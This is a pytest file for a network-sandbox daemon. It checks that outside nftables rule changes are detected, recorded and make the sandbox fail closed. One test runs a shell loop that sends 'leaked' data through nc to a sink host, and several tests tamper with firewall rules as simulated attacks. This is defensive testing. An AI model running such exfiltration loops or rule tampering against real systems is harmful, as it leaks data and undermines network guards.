"""Somebody else changes the rules of a network that is guarded: it is noticed, recorded, and closes the sandbox for good."""

from __future__ import annotations

import subprocess

import pytest

from lab import plan
from lab.daemon import Daemon, Sandbox
from lab.internet import Internet
from lab.namespaces import Namespace
from lab.processes import check, wait_until
from lab.sandgate import allowing
from lab.tool import binary

CHANGES = {
    "a table": "add table ip nat",
    "a chain that accepts first": "add table inet a; add chain inet a c { type filter hook output priority -400; }",
    "a table of the devices": "add table netdev sandgate",
}


def attached(daemon: Daemon, box: Namespace) -> Sandbox:
    return daemon.create(allowing(plan.ALLOWED), id="box", attachment={"netns": f"/run/netns/{box.name}"})


def daemon_tool(daemon: Daemon, command: str, *words: str) -> str:
    """What one of the commands prints that ask a daemon."""
    return check(binary(), command, "--socket", daemon.socket, *words)


def is_recorded(daemon: Daemon, sandbox: str) -> bool:
    records = daemon.records(sandbox=sandbox)
    return any(record["event"] == "ruleset.changed" and "(nft)" in record["detail"] for record in records)


@pytest.mark.attack(
    "T14", "has an accomplice with root outside change the rules beside Sandgate's, while it lives", stopped_by="kernel"
)
@pytest.mark.parametrize("change", CHANGES.values(), ids=CHANGES)
def test_change_is_noticed(internet: Internet, daemon: Daemon, change: str) -> None:
    sandbox, other = daemon.create(allowing(plan.ALLOWED)), daemon.create(allowing(plan.ALLOWED))
    assert sandbox.reaches(plan.ALLOWED)
    check("nsenter", f"--net={sandbox.namespace}", "nft", change)
    sandbox.wait_for("Failed")
    status = sandbox.ask("GET").json["status"]
    assert status["reason"] == "ruleset-changed" and "(nft)" in status["message"], status
    assert is_recorded(daemon, sandbox.id)
    internet.forget()
    assert not sandbox.reaches(plan.ALLOWED) and internet.web.requests() == []
    assert sandbox.ask("POST", "/resume").status != 200 and not sandbox.reaches(plan.ALLOWED)
    # Nobody else suffers, and it stays what it is.
    assert other.reaches(plan.ALLOWED) and other.state == "Running"
    daemon.restart()
    assert sandbox.state == "Failed" and not sandbox.reaches(plan.ALLOWED)
    assert sandbox.ask("DELETE").status == 204


@pytest.mark.attack(
    "T14 T8", "floods while the operator has a sandbox tried again whose rules somebody changed", stopped_by="kernel"
)
def test_trying_again(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """The way back, without a moment at which nobody guards: `DELETE` and a new request would leave one."""
    drop = ("setpriv", "--bounding-set=-net_raw,-net_admin,-sys_admin", "--inh-caps=-net_raw,-net_admin,-sys_admin")
    flood = ("/bin/sh", "-c", f"while true; do echo leaked | nc -w 1 {plan.SINK4} 4444; done")
    free = subprocess.Popen(box.command(*drop, *flood), stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL)
    try:
        wait_until(lambda: "leaked" in internet.sinks.data(), "what is sent where nobody guards")
        sandbox = attached(daemon, box)
        wait_until(lambda: internet.sinks.data() == "", "the end of what was under way")
        for _ in range(2):
            assert sandbox.ask("POST", "/retry").status == 409, "it has not failed"
            box.check("nft", "add table ip nat; add chain ip nat c; add rule ip nat c counter")
            sandbox.wait_for("Failed")
            shown = daemon_tool(daemon, "inspect", sandbox.id)
            assert "(nft)" in shown and f"sandgate retry {sandbox.id}" in shown, shown
            daemon.restart()
            assert sandbox.state == "Failed" and not sandbox.reaches(plan.ALLOWED)
            assert daemon_tool(daemon, "retry", sandbox.id) == ""
            assert sandbox.state == "Running" and sandbox.reaches(plan.ALLOWED) and not sandbox.reaches(plan.DENIED)
            assert "tried again" in daemon.records(sandbox=sandbox.id, event="sandbox.attached")[-1]["detail"]
        # From the next change on it is watched as before, and the next process takes it up.
        daemon.restart()
        assert sandbox.state == "Running" and sandbox.reaches(plan.ALLOWED)
        assert internet.sinks.data() == "" and internet.web.hosts() == {plan.ALLOWED}
    finally:
        free.kill()
        free.wait()


def test_trying_again_in_vain(internet: Internet, daemon: Daemon, box: Namespace) -> None:
    """Beside rules that keep the self-test from what it has to see it stays failed, and says why."""
    sandbox = attached(daemon, box)
    box.check("nft", "add table inet a; add chain inet a c { type filter hook output priority -400; policy drop; }")
    sandbox.wait_for("Failed")
    answer = sandbox.ask("POST", "/retry")
    assert answer.status == 503, answer
    status = sandbox.ask("GET").json["status"]
    assert status["state"] == "Failed" and status["reason"] == "enforcement-failed", status
    assert not sandbox.reaches(plan.ALLOWED) and internet.web.requests() == []
    box.check("nft", "delete table inet a")
    assert sandbox.ask("POST", "/retry").status == 200
    assert sandbox.reaches(plan.ALLOWED)


def test_changes_of_our_own_are_none(daemon: Daemon) -> None:
    sandbox = daemon.create(allowing(plan.ALLOWED))
    for target in (plan.DENIED, plan.ALLOWED):
        assert sandbox.ask("PUT", "/policy", allowing(target)).status == 200
        assert sandbox.reaches(target)
    daemon.restart()
    assert sandbox.state == "Running" and sandbox.reaches(plan.ALLOWED)


@pytest.mark.attack("T14", "has the rules changed while the daemon is dead", stopped_by="start")
def test_change_while_nobody_watched(internet: Internet, daemon: Daemon) -> None:
    sandbox = daemon.create(allowing(plan.ALLOWED))
    path = sandbox.namespace
    daemon.end()
    check("nsenter", f"--net={path}", "nft", "add table ip nat")
    daemon.start()
    sandbox.wait_for("Failed")
    assert sandbox.ask("GET").json["status"]["reason"] == "ruleset-changed"
    assert not sandbox.reaches(plan.ALLOWED)


def test_what_was_there_before_is_not_a_change(internet: Internet, daemon: Daemon) -> None:
    box = Namespace("before")
    try:
        box.check("nft", "add table ip nat; add chain ip nat c; add rule ip nat c counter")
        sandbox = daemon.create(allowing(plan.ALLOWED), attachment={"netns": f"/run/netns/{box.name}"})
        daemon.restart()
        wait_until(lambda: sandbox.state == "Running", "the sandbox")
        box.check("nft", "flush chain ip nat c")
        sandbox.wait_for("Failed")
    finally:
        box.remove()
